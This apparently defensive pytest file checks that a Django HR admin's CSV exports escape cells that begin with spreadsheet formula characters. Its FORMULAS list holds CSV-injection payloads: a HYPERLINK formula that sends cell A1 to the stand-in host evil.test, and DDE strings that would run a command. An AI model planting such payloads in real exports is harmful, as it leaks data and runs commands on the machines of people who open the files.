"""CSV exports from the admin never hand a spreadsheet a formula: a cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return leaves with a leading `'` (OWASP's CSV injection rule),
whatever list it is exported from and whoever exports it."""

import csv
import io

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from kudos.models import Kudos
from pulsehr.spreadsheets import spreadsheet_cell
from pulsehr.tenancy.admin_base import SpreadsheetSafeCSV

from ..factories import EmployeeFactory
from ..staff import member_client

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.test/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported(client, model: str) -> list[dict]:
    response = client.get(reverse(f"admin:{model}_export"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("role", ["viewer", "hr", "owner"])
def test_every_formula_start_in_an_employee_export_leaves_as_text(workspace, role):
    for formula in FORMULAS:
        EmployeeFactory(workspace=workspace, full_name=formula, department=formula, role="Engineer")
    rows = exported(member_client(workspace, role), "employees_employee")
    assert sorted(row["full_name"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert all(row["department"] == row["full_name"] for row in rows)
    assert all(row["role"] == "Engineer" for row in rows)  # plain text is left alone


def test_a_kudos_note_starting_with_a_formula_character_leaves_as_text(workspace):
    giver, receiver = EmployeeFactory(workspace=workspace), EmployeeFactory(workspace=workspace)
    for formula in FORMULAS:
        Kudos.objects.create(
            workspace=workspace, environment="live", from_employee=giver, to_employee=receiver, coins=1, note=formula
        )
    rows = exported(member_client(workspace, "hr"), "kudos_kudos")
    assert sorted(row["note"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert {row["coins"] for row in rows} == {"1"}


def test_every_admin_export_writes_through_the_escaping_format():
    exporting = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)]
    assert exporting
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, SpreadsheetSafeCSV) for f in formats), type(model_admin).__name__


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),  # a plain number is not a formula
        ("+1.5e3", "+1.5e3"),
        ("-1+1", "'-1+1"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell
